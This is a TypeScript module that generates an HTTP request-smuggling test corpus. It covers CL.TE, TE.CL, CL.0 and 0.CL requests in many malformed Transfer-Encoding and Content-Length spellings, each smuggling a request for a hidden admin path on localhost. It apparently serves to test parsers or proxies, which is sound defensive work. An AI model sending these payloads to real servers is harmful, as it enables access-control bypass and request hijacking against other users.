/** A request that two readers may understand differently, if one of them is careless. */
export interface SmuggledRequest {
  readonly name: string
  readonly bytes: string
}

/** Nobody may open it without signing in: whoever has asked an application for it came there by smuggling. */
export const HIDDEN_PATH = '/admin/hidden'

const hidden = `GET ${HIDDEN_PATH} HTTP/1.1\r\nHost: localhost\r\nX-Rest: `
const hiddenWhole = `GET ${HIDDEN_PATH} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\nx=`

const hex = (code: number): string => code.toString(16).padStart(2, '0')

/** `Transfer-Encoding: chunked` in spellings that some parser somewhere took for it, or did not. */
function codings(codes: readonly number[]): readonly (readonly [string, string])[] {
  const fixed = [
    ['as it should be', 'Transfer-Encoding: chunked'],
    ['no space', 'Transfer-Encoding:chunked'],
    ['upper case', 'TRANSFER-ENCODING: CHUNKED'],
    ['capital', 'Transfer-Encoding: Chunked'],
    ['underscore', 'Transfer_Encoding: chunked'],
    ['a name that goes on', 'Transfer-Encoding-X: chunked'],
    ['a name too short', 'ransfer-Encoding: chunked'],
    ['quoted', 'Transfer-Encoding: "chunked"'],
    ['in apostrophes', "Transfer-Encoding: 'chunked'"],
    ['a value that goes on', 'Transfer-Encoding: chunkedx'],
    ['with a parameter', 'Transfer-Encoding: chunked;q=1'],
    ['after identity', 'Transfer-Encoding: identity, chunked'],
    ['before identity', 'Transfer-Encoding: chunked, identity'],
    ['after nothing', 'Transfer-Encoding: , chunked'],
    ['before nothing', 'Transfer-Encoding: chunked,'],
    ['twice in a list', 'Transfer-Encoding: chunked, chunked'],
    ['after gzip', 'Transfer-Encoding: gzip, chunked'],
    ['after cow', 'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked'],
    ['before cow', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow'],
    ['twice', 'Transfer-Encoding: chunked\r\nTransfer-encoding: chunked'],
    ['empty first', 'Transfer-Encoding:\r\nTransfer-Encoding: chunked'],
    ['folded value', 'Transfer-Encoding:\r\n chunked'],
    ['folded with a tab', 'Transfer-Encoding:\r\n\tchunked'],
    ['folded into another', 'X: y\r\n Transfer-Encoding: chunked'],
    ['two colons', 'Transfer-Encoding:: chunked'],
    ['behind a bare line feed', 'X: y\nTransfer-Encoding: chunked'],
    ['behind a bare carriage return', 'X: y\rTransfer-Encoding: chunked'],
    ['ended by a bare line feed', 'Transfer-Encoding: chunked\nX: y'],
    ['ended by a bare carriage return', 'Transfer-Encoding: chunked\rX: y'],
    ['named in Connection', 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked'],
    ['as content encoding', 'Content-Encoding: chunked'],
    ['with an encoded word', 'Transfer-Encoding: =?iso-8859-1?B?Y2h1bmtlZA==?='],
  ] as const
  const made = codes.flatMap((code) => {
    const byte = String.fromCodePoint(code)
    return [
      [`${hex(code)} before the name`, `${byte}Transfer-Encoding: chunked`],
      [`${hex(code)} in the name`, `Transfer${byte}-Encoding: chunked`],
      [`${hex(code)} after the name`, `Transfer-Encoding${byte}: chunked`],
      [`${hex(code)} instead of the space`, `Transfer-Encoding:${byte}chunked`],
      [`${hex(code)} before the value`, `Transfer-Encoding: ${byte}chunked`],
      [`${hex(code)} in the value`, `Transfer-Encoding: chun${byte}ked`],
      [`${hex(code)} after the value`, `Transfer-Encoding: chunked${byte}`],
      [`${hex(code)} between two headers`, `X: y${byte}Transfer-Encoding: chunked`],
      [`${hex(code)} before a bare line feed`, `X: y${byte}\nTransfer-Encoding: chunked`],
      [`${hex(code)} after a bare carriage return`, `X: y\r${byte}Transfer-Encoding: chunked`],
    ] as const
  })
  return [...fixed, ...made]
}

/** Lengths that some parser somewhere took for this number, or for none. */
function lengths(length: number, codes: readonly number[]): readonly (readonly [string, string])[] {
  const fixed = [
    ['as it should be', `Content-Length: ${length}`],
    ['zero first', `Content-Length: 0\r\nContent-Length: ${length}`],
    ['zero last', `Content-Length: ${length}\r\nContent-Length: 0`],
    ['a list', `Content-Length: 0, ${length}`],
    ['the same twice', `Content-Length: ${length}, ${length}`],
    ['leading zeros', `Content-Length: 000${length}`],
    ['a plus', `Content-Length: +${length}`],
    ['hexadecimal', `Content-Length: 0x${length.toString(16)}`],
    ['with an exponent', `Content-Length: ${length}e0`],
    ['a fraction', `Content-Length: ${length}.0`],
    ['underscore', `Content_Length: ${length}`],
    ['folded', `Content-Length:\r\n ${length}`],
    ['folded behind zero', `Content-Length: 0\r\n ${length}`],
    ['named in Connection', `Connection: Content-Length\r\nContent-Length: ${length}`],
    ['with Expect', `Expect: 100-continue\r\nContent-Length: ${length}`],
    ['with an odd Expect', `Expect: y 100-continue\r\nContent-Length: ${length}`],
  ] as const
  // A digit would make it another length, for everybody.
  const others = codes.filter((code) => code < 0x30 || code > 0x39)
  const made = others.flatMap((code) => {
    const byte = String.fromCodePoint(code)
    return [
      [`${hex(code)} before the name`, `${byte}Content-Length: ${length}`],
      [`${hex(code)} after the name`, `Content-Length${byte}: ${length}`],
      [`${hex(code)} before the number`, `Content-Length: ${byte}${length}`],
      [`${hex(code)} in the number`, `Content-Length: ${String(length).slice(0, 1)}${byte}${String(length).slice(1)}`],
      [`${hex(code)} after the number`, `Content-Length: ${length}${byte}`],
    ] as const
  })
  return [...fixed, ...made]
}

const request = (method: string, path: string, framing: string, body: string): string =>
  `${method} ${path} HTTP/1.1\r\nHost: localhost\r\n${framing}\r\n\r\n${body}`

/** Each request has a path of its own, `/public/smuggling/N`. */
export function smugglingCorpus(codes: readonly number[]): readonly SmuggledRequest[] {
  const chunked = `${hiddenWhole.length.toString(16)}\r\n${hiddenWhole}\r\n0\r\n\r\n`
  const afterChunks = `0\r\n\r\n${hidden}`
  const kinds: readonly (readonly [string, (path: string) => string])[] = [
    ...codings(codes).flatMap(([name, coding]): (readonly [string, (path: string) => string])[] => [
      [
        `CL.TE ${name}`,
        (path) => request('POST', path, `Content-Length: ${afterChunks.length}\r\n${coding}`, afterChunks),
      ],
      [
        `CL.TE turned round, ${name}`,
        (path) => request('POST', path, `${coding}\r\nContent-Length: ${afterChunks.length}`, afterChunks),
      ],
      [`TE.CL ${name}`, (path) => request('POST', path, `Content-Length: 4\r\n${coding}`, chunked)],
      [`TE alone, ${name}`, (path) => request('POST', path, coding, chunked)],
    ]),
    ...lengths(hidden.length, codes).flatMap(([name, length]): (readonly [string, (path: string) => string])[] => [
      [`CL.0 ${name}`, (path) => request('POST', path, length, hidden)],
      [`0.CL ${name}`, (path) => request('GET', path, length, hidden)],
    ]),
  ]
  return kinds.map(([name, make], nth) => ({ name, bytes: make(`/public/smuggling/${nth}`) }))
}
